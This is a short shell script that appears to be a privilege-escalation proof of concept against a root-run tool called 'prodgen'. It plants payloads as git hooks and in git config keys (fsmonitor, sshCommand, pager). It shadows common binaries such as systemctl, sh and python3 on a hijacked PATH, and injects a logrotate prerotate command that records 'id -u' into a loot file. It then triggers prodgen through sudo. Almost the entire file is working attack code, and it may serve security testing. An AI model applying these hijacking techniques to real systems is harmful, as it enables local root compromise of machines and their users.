# First step: hooks of git, and config of the tools around prodgen, in the bench and the home.
. "$(dirname "$0")/lib.sh"
mkdir -p "$BENCH/.git/hooks" "$HOME/.config/systemd/user" "$HOME/.config/prodgen"
payload "$HOME/attack.payload"
printf '[core]\n\tfsmonitor = %s\n\tsshCommand = %s\n\tpager = %s\n' "$HOME/attack.payload" \
    "$HOME/attack.payload" "$HOME/attack.payload" | tee "$BENCH/.git/config" >"$HOME/.gitconfig"
for hook in post-checkout pre-commit fsmonitor-watchman; do payload "$BENCH/.git/hooks/$hook"; done
for name in supervisorctl nginx systemctl openssl sh python3 node unshare journalctl; do
    payload "$BENCH/$name"; payload "$HOME/.local/bin/$name"
done
printf '%s {\n prerotate\n id -u >>%s\n endscript\n}\n' "$BENCH/logs/*.log" "$LOOT" >"$BENCH/logrotate.conf"
cp "$BENCH/logrotate.conf" "$BENCH/config/logrotate.conf"
export PATH=$HOME/.local/bin:$BENCH:/usr/bin:/bin GIT_CONFIG=$HOME/.gitconfig PAGER=$HOME/attack.payload
cd "$BENCH"
supervisorctl # it works, for whoever takes the PATH over
/usr/bin/sudo -n /usr/local/bin/prodgen restart -C "$BENCH"
for words in "diff" "apply --yes" doctor "render -t all" "status" "logs" "restart web"; do root $words -C "$BENCH"; done
